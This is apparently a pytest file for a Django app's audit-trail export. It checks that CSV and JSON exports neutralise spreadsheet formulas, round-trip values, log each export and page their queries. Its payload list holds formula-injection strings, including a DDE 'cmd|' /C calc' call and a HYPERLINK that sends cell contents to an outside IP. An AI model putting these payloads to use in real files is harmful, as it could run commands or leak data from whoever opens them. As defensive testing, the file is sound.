"""The export: a spreadsheet computes nothing of it, and all of it can be read back (F55, T68)."""

from __future__ import annotations

import csv
import io
import json
from itertools import product

import pytest

from domainguard import audit
from domainguard.core.cells import text_of
from domainguard.models import AuditEvent
from domainguard.services.export_trail import COLUMNS, export

LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
REST = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//198.51.100.7/"&A1,"see")', "2+3@mill-lane.org",
    "SUM(A1:A9)*cmd", '"=1+1"', "IMPORTXML(CONCAT(A1),1)", "0", "x,=1", 'x";=1', "x\n=1", "",
    "x;=1", "x\t=1", "x;@SUM(1)", "'=1",
)  # fmt: skip
PLAIN = ("", "'", "x;", '"', ",", ";", '",', '";', "a\r\n", "１")
PAYLOADS = [lead + rest for lead, rest in product(LEADS + PLAIN, REST)]
PAYLOADS += [payload * 2 for payload in PAYLOADS[: 500 - len(PAYLOADS)]]


def hostile(site) -> list[AuditEvent]:
    """Write each payload where people's and registries' words end up."""
    audit.record_all(
        audit.event("domain_hold", at=site.now(), actor=payload, domain=payload, sentence=payload)
        for payload in PAYLOADS
    )
    return list(AuditEvent.objects.order_by("pk"))


def exported(form: str) -> str:
    rows = AuditEvent.objects.all()
    return "".join(export(rows, form, by="staff:1", filters={"q": "lane"}))


def test_there_are_500_payloads():
    assert len(PAYLOADS) == 500


def test_f55_no_cell_is_a_formula_and_every_cell_comes_back(site):
    rows = hostile(site)
    lines = list(csv.reader(io.StringIO(exported("csv"), newline=""), strict=True))
    assert tuple(lines[0]) == COLUMNS
    cells = [cell for line in lines for cell in line]
    assert [cell for cell in cells if cell.startswith(LEADS)] == []
    back = [dict(zip(COLUMNS, map(text_of, line), strict=True)) for line in lines[1:]]
    assert [(each["actor"], each["domain"]) for each in back] == [(each, each) for each in PAYLOADS]
    assert [json.loads(each["detail"]) for each in back] == [row.detail for row in rows]


def test_f55_a_registrys_words_are_no_formula_where_semicolons_part_cells(site):
    audit.record_all(
        audit.event("domain_hold", at=site.now(), sentence=payload) for payload in PAYLOADS
    )
    lines = csv.reader(io.StringIO(exported("csv"), newline=""), delimiter=";")
    assert [cell for line in lines for cell in line if cell.startswith(LEADS)] == []


def test_json_is_one_document_that_says_who_took_what(site):
    rows = hostile(site)
    document = json.loads(exported("json"))
    assert (document["exported_by"], document["rows"]) == ("staff:1", 500)
    assert document["filters"] == {"q": "lane"}
    assert [each["detail"] for each in document["events"]] == [row.detail for row in rows]
    assert set(document["events"][0]) == set(COLUMNS)


def test_an_export_of_nothing_is_whole(site):
    assert json.loads(exported("json"))["events"] == []
    assert len(exported("csv").splitlines()) == 2  # its columns, and the export before


def test_an_export_is_recorded_before_its_first_line_is_given(site):
    hostile(site)
    pieces = export(AuditEvent.objects.all(), "csv", by="staff:1", filters={})
    row = AuditEvent.objects.get(action="trail_exported")
    assert (row.actor, row.detail) == ("staff:1", {"form": "csv", "filters": {}, "rows": 500})
    assert sum(1 for _ in pieces) == 501


@pytest.mark.parametrize("form", ["csv", "json"])
def test_every_row_says_whose_copy_it_is_and_until_when_it_may_be_kept(site, form):
    audit.record("mail_sent", at=site.now())
    text = exported(form)
    row = AuditEvent.objects.get(action="trail_exported")
    copy = f"export {row.pk} of staff:1, to be deleted by 2026-03-02T09:00Z"
    lines = list(csv.DictReader(io.StringIO(text, newline=""))) if form == "csv" else (
        json.loads(text)["events"]
    )  # fmt: skip
    assert [line["copy"] for line in lines] == [copy]


def test_rows_are_read_a_page_at_a_time(site, django_assert_num_queries):
    audit.record_all(audit.event("mail_sent", at=site.now()) for _ in range(4_100))
    pieces = export(AuditEvent.objects.all(), "csv", by="staff:1", filters={})
    with django_assert_num_queries(4):  # three pages, and the one after the last
        assert sum(1 for _ in pieces) == 4_101
